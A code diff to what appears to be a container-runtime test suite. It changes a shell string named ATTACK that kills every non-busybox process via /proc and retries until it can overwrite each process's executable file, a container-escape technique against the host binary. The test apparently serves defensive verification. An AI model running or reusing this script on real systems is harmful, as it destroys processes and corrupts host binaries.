@@ -47,13 +47,16 @@ fn evil(place: &Place) -> Result<()> {
 }
 
 /// Opens the program of whoever is not busybox, ends that process, and writes: what is executed is
-/// busy, what was is not.
+/// busy, and what was is not soon after its process is gone.
 const ATTACK: &str = "for process in /proc/[0-9]*; do \
     [ $(readlink $process/exe) = /bin/busybox ] && continue; \
     exec 3<$process/exe || continue; \
     kill -9 ${process#/proc/}; \
     while readlink $process/exe; do :; done; \
-    sh -c 'echo overwritten >> /proc/self/fd/3'; done >/said 2>&1; true > /done";
+    busy=1; while [ $busy -lt 1000 ]; do \
+        said=$(sh -c 'echo overwritten >> /proc/self/fd/3' 2>&1); \
+        case $said in *busy*) busy=$((busy+1));; *) break;; esac; \
+    done; echo $said; done >/said 2>&1; true > /done";
 
 /// The runtime, executed in a container by the link that procfs has, waits there for a bundle that
 /// never comes, which is time enough to get hold of it.
